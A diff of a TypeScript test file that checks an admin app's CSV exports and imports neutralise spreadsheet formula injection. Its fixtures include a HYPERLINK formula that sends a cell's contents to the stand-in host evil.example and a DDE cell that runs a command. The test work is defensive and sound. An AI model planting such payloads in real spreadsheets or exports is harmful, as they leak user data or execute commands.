@@ -3,12 +3,11 @@
 // cached (GOV-1, ADM-4, OPS-4).
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
-import { startTestApp, ADMIN_USERNAME, ADMIN_PASSWORD, type TestApp } from './helpers/app.ts';
+import { startTestApp, type TestApp } from './helpers/app.ts';
 import { Client } from './helpers/client.ts';
 import { createAccount } from './helpers/accounts.ts';
-import { login } from './helpers/login.ts';
 import { newNationalId } from './helpers/apply.ts';
-import { tokenCommand } from '../src/admin/cli.ts';
+import { centralAuthority, type Api } from './helpers/api.ts';
 import { audit } from '../src/platform/audit.ts';
 import { SESSION_COOKIE } from '../src/auth/sessions.ts';
 
@@ -17,23 +16,16 @@ const HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"點我")';
 const SUM = '@SUM(1+1)*cmd|\' /C calc\'!A0';
 
 let t: TestApp;
-let token = '';
+let api: Api;
 let admin: Client;
 before(async () => {
   t = await startTestApp();
   await createAccount(t.deps, { username: 'formula01', password: 'Correct-Horse-9', unitOid: UNIT, name: '公式測試', profile: { title: HYPERLINK, department: SUM, officeExt: '+886' } });
-  await t.deps.db.transaction().execute((trx) => audit(trx, t.clock.now(), { actor: null, action: 'account.update', targetType: 'account', targetId: '-2+3', details: {} }));
-  let out = '';
-  assert.equal(await tokenCommand(t.deps, 'create', ['--username', ADMIN_USERNAME], { out: (s) => { out += s; }, err: () => {} }), 0);
-  token = out.trim();
-  admin = new Client(t.url);
-  assert.equal((await login(t, admin, ADMIN_USERNAME, ADMIN_PASSWORD)).status, 303);
+  await t.deps.db.transaction().execute((trx) => audit(trx, t.clock.now(), { actor: null, action: 'account.update', targetType: 'account', targetId: '-2+3', details: { note: 'formula-audit' } }));
+  ({ client: admin, api } = await centralAuthority(t));
 });
 after(async () => { await t?.close(); });
 
-const api = (method: string, path: string, body?: unknown) => fetch(t.url + '/api/v1' + path, {
-  method, headers: { authorization: `Bearer ${token}`, ...(body ? { 'content-type': 'application/json' } : {}) }, body: body ? JSON.stringify(body) : undefined,
-});
 const page = (path: string) => fetch(t.url + path, { headers: { cookie: `${SESSION_COOKIE}=${admin.cookie(SESSION_COOKIE)}` } });
 /** The cells of a CSV line as a spreadsheet would see them (quotes removed). */
 const cellsOf = (csv: string, marker: string) => csv.split('\n').find((l) => l.includes(marker)) ?? '';
@@ -52,7 +44,7 @@ test('GOV-1, ADM-4 (issue 9 item 4): account exports (page and API) neutralise =
 test('GOV-1 (issue 9 item 4): the audit export goes through the same writer', async () => {
   const res = await page('/admin/audit/export.csv');
   assert.equal(res.status, 200);
-  assert.match(cellsOf(await res.text(), 'test.formula'), /,'-2\+3,/);
+  assert.match(cellsOf(await res.text(), 'formula-audit'), /,'-2\+3,/);
 });
 
 test('ADM-4 (issue 9 item 4): an import warns, by line and column, about a cell starting like a formula, and still checks the rest', async () => {
